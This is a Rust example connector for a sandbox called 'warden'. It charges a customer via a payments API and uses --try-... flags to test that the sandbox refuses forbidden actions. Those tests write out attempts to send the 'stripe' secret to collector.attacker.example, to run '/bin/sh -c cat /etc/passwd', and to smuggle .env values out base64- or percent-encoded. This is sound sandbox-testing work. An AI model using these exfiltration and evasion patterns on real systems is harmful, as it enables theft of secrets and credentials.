//! Example connector: charges a customer through a payments API.
//!
//! It reads what to charge from `/config/payments.toml`, POSTs the charge to the API naming
//! the `stripe` secret (warden injects `Authorization: Bearer …`; the connector never holds the
//! key), then posts a receipt, without any secret, to a webhook. Its manifest is
//! `examples/payments/payments.warden.toml`.
//!
//! `--count N` sends N charges (each with its own idempotency key). The `--try-…` flags attempt
//! what the manifest does not allow and print `refused: …` for each refusal, or `ALLOWED: …`
//! when one got through (and then the exit code is 2):
//!
//! - `--try-write`: overwrite its config file, create a file beside it (a `read` grant);
//! - `--try-other-host`: send the charge to a host the manifest does not list;
//! - `--try-spawn`: run a shell (a wasm component cannot start processes at all);
//! - `--try-exfil`: send the `stripe` secret to the receipts webhook and to another host;
//! - `--try-reveal`: read the `stripe` secret's value, and open a secret never granted;
//! - `--try-leak FILE`: post each `NAME=VALUE` value found in FILE (say, a stray `.env` the
//!   operator granted by mistake) to the receipts webhook, as is in the body, base64-encoded in
//!   a header and percent-encoded in the query, and in the query to another host. A value that
//!   is one of warden's secrets is refused wherever it hides.

use std::fmt::Display;
use std::process::ExitCode;

use serde::Deserialize;
use warden_sdk::http::{Request, Response};
use warden_sdk::{Error, fs, log, secrets};

const CONFIG: &str = "/config/payments.toml";
const SECRET: &str = "stripe";
/// Where `--try-other-host` and `--try-exfil` send to: no manifest rule names it.
const ELSEWHERE: &str = "https://collector.attacker.example/charges";

#[derive(Deserialize)]
struct Config {
    /// The charges endpoint.
    api: String,
    /// The receipts webhook.
    receipts: String,
    currency: String,
    charge: Charge,
}

#[derive(Deserialize)]
struct Charge {
    customer: String,
    /// In the currency's smallest unit.
    amount: u64,
    description: String,
}

struct Flags {
    count: u32,
    try_write: bool,
    try_other_host: bool,
    try_spawn: bool,
    try_exfil: bool,
    try_reveal: bool,
    try_leak: Option<String>,
}

fn flags() -> Result<Flags, String> {
    let mut flags = Flags {
        count: 1,
        try_write: false,
        try_other_host: false,
        try_spawn: false,
        try_exfil: false,
        try_reveal: false,
        try_leak: None,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--count" => {
                let n = args.next().ok_or("--count needs a number")?;
                flags.count = n
                    .parse()
                    .map_err(|_| format!("--count: not a number: {n}"))?;
            }
            "--try-write" => flags.try_write = true,
            "--try-other-host" => flags.try_other_host = true,
            "--try-spawn" => flags.try_spawn = true,
            "--try-exfil" => flags.try_exfil = true,
            "--try-reveal" => flags.try_reveal = true,
            "--try-leak" => flags.try_leak = Some(args.next().ok_or("--try-leak needs a file")?),
            other => return Err(format!("unknown argument {other:?}")),
        }
    }
    Ok(flags)
}

fn charge_json(config: &Config) -> String {
    serde_json::json!({
        "customer": config.charge.customer,
        "amount": config.charge.amount,
        "currency": config.currency,
        "description": config.charge.description,
    })
    .to_string()
}

/// The job: the charges, then one receipt.
fn run(config: &Config, count: u32) -> Result<(), Error> {
    let body = charge_json(config);
    let mut last = 0;
    for n in 1..=count {
        let response = Request::post(&config.api)
            .secret(SECRET)
            .header("idempotency-key", &format!("charge-{n}"))
            .json(&body)
            .send()?;
        println!(
            "charge {n}: {} {} to {}: {} {}",
            config.charge.amount,
            config.currency,
            config.charge.customer,
            response.status,
            response.text()
        );
        if !response.is_success() {
            log::warn(format_args!("the API refused charge {n}"));
        }
        last = response.status;
    }
    let receipt = serde_json::json!({
        "customer": config.charge.customer,
        "amount": config.charge.amount,
        "currency": config.currency,
        "status": last,
    });
    let response = Request::post(&config.receipts)
        .json(&receipt.to_string())
        .send()?;
    println!("receipt: {}", response.status);
    Ok(())
}

/// What the `--try-…` flags found.
#[derive(Default)]
struct Tries {
    allowed: usize,
}

impl Tries {
    /// Reports a failure as the expected refusal, a success as a thing let through. An HTTP
    /// failure other than [`Error::Denied`] happened after warden let the request out, so it
    /// counts as let through too.
    fn expect_refused<T>(&mut self, what: &str, outcome: Result<T, Error>) {
        match outcome {
            Err(e @ Error::Http { .. }) => {
                self.allowed(what, format_args!("got past the policy, then: {e}"));
            }
            Err(e) => println!("refused: {what}: {e}"),
            Ok(_) => self.allowed(what, "it succeeded"),
        }
    }

    fn allowed(&mut self, what: &str, detail: impl Display) {
        println!("ALLOWED: {what}: {detail}");
        self.allowed += 1;
    }
}

fn try_write(tries: &mut Tries) {
    tries.expect_refused(
        "overwrite the config file",
        fs::write(CONFIG, "api = \"https://collector.attacker.example/\"\n"),
    );
    tries.expect_refused(
        "create a file beside the config",
        fs::write("/config/stolen.txt", "x"),
    );
}

fn try_other_host(tries: &mut Tries, config: &Config) {
    let sent: Result<Response, Error> = Request::post(ELSEWHERE).json(&charge_json(config)).send();
    tries.expect_refused("send the charge to another host", sent);
}

fn try_spawn(tries: &mut Tries) {
    match std::process::Command::new("/bin/sh")
        .args(["-c", "cat /etc/passwd"])
        .output()
    {
        Ok(_) => tries.allowed("start a shell", "a process ran"),
        Err(e) => println!("refused: start a shell: {e}"),
    }
}

fn try_exfil(tries: &mut Tries, config: &Config) {
    let sent = Request::post(&config.receipts)
        .secret(SECRET)
        .json("{}")
        .send();
    tries.expect_refused("send the stripe secret to the receipts webhook", sent);
    let sent = Request::post(ELSEWHERE).secret(SECRET).json("{}").send();
    tries.expect_refused("send the stripe secret to another host", sent);
}

fn try_reveal(tries: &mut Tries) {
    let revealed = secrets::open(SECRET).and_then(|secret| secret.reveal());
    tries.expect_refused("read the stripe secret's value", revealed);
    tries.expect_refused(
        "open a secret the manifest does not grant",
        secrets::open("aws-root"),
    );
}

/// Standard base64 with padding.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let n = group
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= group.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Every byte outside the unreserved set as `%XX`.
fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                char::from(b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// The error with its URL replaced by `shown`, for a URL that holds a value the output must
/// not.
fn with_url(e: Error, shown: &str) -> Error {
    let url = shown.to_string();
    match e {
        Error::Denied { .. } => Error::Denied { url },
        Error::Http { code, .. } => Error::Http { url, code },
        other => other,
    }
}

fn try_leak(tries: &mut Tries, config: &Config, file: &str) {
    let text = match fs::read_to_string(file) {
        Ok(text) => text,
        Err(e) => return println!("refused: read {file}: {e}"),
    };
    for (n, value) in text
        .lines()
        .filter_map(|l| l.split_once('=').map(|(_, v)| v.trim()))
        .filter(|v| !v.is_empty())
        .enumerate()
    {
        // Which value is which goes by position: a value never reaches the output.
        let body = serde_json::json!({ "note": value }).to_string();
        let sent = Request::post(&config.receipts).json(&body).send();
        tries.expect_refused(&format!("post value {n} from {file} in the body"), sent);
        let sent = Request::post(&config.receipts)
            .header("x-debug", &base64(value.as_bytes()))
            .json("{}")
            .send();
        tries.expect_refused(&format!("post value {n} from {file} base64-encoded"), sent);
        let url = format!("{}?note={}", config.receipts, percent(value));
        let shown = format!("{}?note=…", config.receipts);
        let sent = Request::post(&url)
            .json("{}")
            .send()
            .map_err(|e| with_url(e, &shown));
        tries.expect_refused(
            &format!("post value {n} from {file} percent-encoded in the query"),
            sent,
        );
        let url = format!("{ELSEWHERE}?note={}", percent(value));
        let shown = format!("{ELSEWHERE}?note=…");
        let sent = Request::post(&url)
            .json("{}")
            .send()
            .map_err(|e| with_url(e, &shown));
        tries.expect_refused(
            &format!("post value {n} from {file} in the query to another host"),
            sent,
        );
    }
}

fn main() -> ExitCode {
    let flags = match flags() {
        Ok(flags) => flags,
        Err(e) => {
            log::error(e);
            return ExitCode::from(64);
        }
    };
    let config: Config = match fs::read_to_string(CONFIG)
        .map_err(|e| e.to_string())
        .and_then(|text| toml::from_str(&text).map_err(|e| format!("{CONFIG}: {e}")))
    {
        Ok(config) => config,
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    };
    if let Err(e) = run(&config, flags.count) {
        log::error(e);
        return ExitCode::FAILURE;
    }
    let mut tries = Tries::default();
    if flags.try_write {
        try_write(&mut tries);
    }
    if flags.try_other_host {
        try_other_host(&mut tries, &config);
    }
    if flags.try_spawn {
        try_spawn(&mut tries);
    }
    if flags.try_exfil {
        try_exfil(&mut tries, &config);
    }
    if flags.try_reveal {
        try_reveal(&mut tries);
    }
    if let Some(file) = &flags.try_leak {
        try_leak(&mut tries, &config, file);
    }
    if tries.allowed > 0 {
        log::error(format_args!(
            "{} refused thing(s) got through",
            tries.allowed
        ));
        return ExitCode::from(2);
    }
    ExitCode::SUCCESS
}
